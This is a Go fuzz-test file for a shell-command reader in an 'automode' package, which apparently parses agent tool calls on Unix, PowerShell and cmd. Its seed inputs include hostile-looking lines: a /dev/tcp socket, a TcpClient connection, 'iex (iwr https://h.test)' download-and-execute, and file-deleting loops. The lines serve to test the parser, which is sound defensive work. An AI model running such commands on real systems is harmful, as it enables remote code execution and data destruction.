package shell

import (
	"strings"
	"testing"
	"unicode/utf8"

	"automode"
	"automode/internal/world"
)

// FuzzRead: no text makes reading panic or hang, and a text that shells and
// readers take differently is never read as complete.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		`cp a b; if`, `f() { f | f & }; f`, `echo $(echo $(echo a))`, `cat <<E
$(cp a b)
E`, `for f in {a..z} {1..9}; do cp "$f" "${f%.*}"; done`, `[[ a =~ $(cp a b) ]]`, `x=(a b c); cp "${x[@]}" d`,
		`cp <(cat a) >(tee b)`, "echo a\x00b", "echo a\rb", "echo \xff", `case $x in (a|b) ;; esac`, `exec 3<>/dev/tcp/h/1`,
		`eval "$(echo cp a b)"`, `${x@P} ${!x} ${x:-$(cp a b)}`, `while read -r f; do rm "$f"; done < <(find .)`, `$'\x63p' a b`,
		`select x in a b; do cp $x c; done`, `coproc cp a b`, `let x=1+2`, `declare -n r=x; r=1`, `a[$(cp a b)]=1`, `trap 'cp a b' EXIT`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a := read(s)
		if a.Complete && (!utf8.ValidString(s) || strings.ContainsAny(s, "\x00\r") || len(s) > MaxText) {
			t.Errorf("%q was read as complete", s)
		}
		if !a.Complete && a.Outcome == automode.Policy {
			t.Errorf("%q is not complete and nothing says why", s)
		}
		for _, e := range a.Effects {
			if e.Command < 0 || e.Command > len(a.Commands) || e.Parent < 0 || e.Parent > len(a.Effects) {
				t.Errorf("%q: an effect points nowhere", s)
			}
		}
	})
}

// FuzzReadWindows: the same of texts for PowerShell and cmd.
func FuzzReadWindows(f *testing.F) {
	for _, s := range []string{
		"gci . | ? { $_.Name -like 'a*' } | ri -r", "iex (iwr https://h.test)", "& ('a'+'b') -c:d @e", "$a = @{b={c}}; & $a.b", "foreach ($x in 1..3) { rm $x }",
		"function f($a) { f $a }; f b", "[IO.File]::Delete(\"C:\\x\")", "cmd /c \"for %i in (a b) do del %i\"", "if exist a (del b) else c > d", "set X=a& call %X% !Y!",
		"powershell -c \"rm a\" & dir", "New-Object Net.Sockets.TcpClient('h',1)", "$b = { $b.Invoke() }; & $b", "\\\\h\\s\\f", "'{0}{1}' -f 'a',$b | % { . $_ }",
	} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, s string, cmd bool) {
		kind := automode.PowerShell
		if cmd {
			kind = automode.Cmd
		}
		a := automode.Action{Call: &automode.Call{Tool: "PowerShell", Kind: automode.ShellTool, Shell: kind, Platform: automode.Windows, Cwd: `C:\p`, Roots: []string{`C:\p`}, Command: s}}
		Read(&a, world.New(world.Options{Home: `C:\Users\u`, Roots: []string{`C:\p`}, Cwd: `C:\p`, Platform: automode.Windows}), Options{})
		if a.Complete && (!utf8.ValidString(s) || strings.ContainsRune(s, 0) || len(s) > MaxText) {
			t.Errorf("%q was read as complete", s)
		}
		if !a.Complete && a.Outcome == automode.Policy {
			t.Errorf("%q is not complete and nothing says why", s)
		}
	})
}

// What a source names to be put in is a part of it, and a name that ends within
// it is no name.
func FuzzIncluded(f *testing.F) {
	for _, s := range []string{
		"#include \"a.h\"\n", "#include <stdio.h>\n", "include!(\"x\");", "#[path = \"a\"] mod b;", ".incbin \"/x\"", "%include 'a'", "#include X", "asm(\"\")",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		names, ok := included(s)
		if !ok && names != nil {
			t.Errorf("%q: names %q of a text that is not read", s, names)
		}
		plain := strings.ReplaceAll(strings.ReplaceAll(s, "\\\r\n", ""), "\\\n", "")
		for _, n := range names {
			if !strings.Contains(plain, n) {
				t.Errorf("%q: %q", s, n)
			}
		}
	})
}
